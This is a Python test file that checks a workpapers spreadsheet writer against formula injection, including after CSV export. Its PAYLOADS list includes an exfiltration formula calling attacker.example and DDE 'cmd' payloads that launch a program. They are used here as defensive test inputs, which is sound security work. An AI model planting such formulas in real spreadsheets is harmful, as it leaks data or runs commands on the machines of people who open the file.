"""Text that came from outside (a facility name, a seller, a goods name, a file name) is written
into workpapers.xlsx as text that no spreadsheet runs, in the workbook or exported to CSV."""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook
from test_report import march_records, march_run

from verify.model.records import Document, DocumentKind
from verify.report.workpapers import inert, write_workpapers

PAYLOADS = ['=HYPERLINK("http://attacker.example/?leak="&A1,"open")', "=cmd|' /C calc'!A0",
            "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0", "@SUM(1,2)", "\t=1+1", "＝1+1"]


def test_a_formula_start_is_kept_as_text_and_numbers_stay_numbers():
    for payload in PAYLOADS:
        assert inert(payload) == "'" + payload
    assert inert("山西某焦化有限公司") == "山西某焦化有限公司"
    assert inert(-37193.85) == -37193.85 and inert(None) is None
    assert inert("Coal\x1fLtd\x00") == "Coal\\x1fLtd\\x00"  # a cell cannot hold them


def test_workpapers_hold_hostile_text_as_text(tmp_path):
    run = march_run(facility_name=PAYLOADS[0])
    run = run.model_copy(update={"documents": run.documents + [
        Document(file=f"{p}.pdf", sha256="0" * 64, kind=DocumentKind.FUEL_INVOICE, pages=1)
        for p in PAYLOADS[1:]]})
    records = march_records()
    invoice = records[0]
    line = invoice.lines[0].model_copy(update={"description": PAYLOADS[4]})
    records[0] = invoice.model_copy(update={"seller": PAYLOADS[2], "lines": [line],
                                            "number": "INV\x1f001\x0b"})
    path = write_workpapers(run, records, tmp_path / "w.xlsx")

    wb = load_workbook(path)
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    formulas = [c for c in cells if c.data_type == "f"]
    assert formulas, "the recalculation sheets hold formulas"
    # every formula is one the workbook builds over its own cells, none from a document
    fixed = {wb["Findings"], wb["Documents"], wb["Invoices"]}
    assert not [c.coordinate for c in formulas if c.parent in fixed]
    for c in formulas:
        assert not any(bit in c.value for bit in ("HYPERLINK", "cmd", "SUM(1,2)", "1+1",
                                                  "attacker")), c.value
    texts = {c.value for c in cells if isinstance(c.value, str)}
    for payload in [PAYLOADS[0], PAYLOADS[2], PAYLOADS[4]] + [f"{p}.pdf" for p in PAYLOADS[1:]]:
        assert "'" + payload in texts, payload
    assert "INV\\x1f001\\x0b" in texts  # control characters a cell cannot hold, escaped
    # exported as CSV, as a verifier might, no field starts a formula
    for ws in wb.worksheets:
        out = io.StringIO()
        # as exported once computed: a formula cell gives its figure, not its text
        csv.writer(out).writerows([None if c.data_type == "f" else c.value for c in row]
                                  for row in ws.iter_rows())
        for row in csv.reader(io.StringIO(out.getvalue())):
            assert not any(f.startswith(("=", "+", "@", "\t", "＝")) for f in row), row
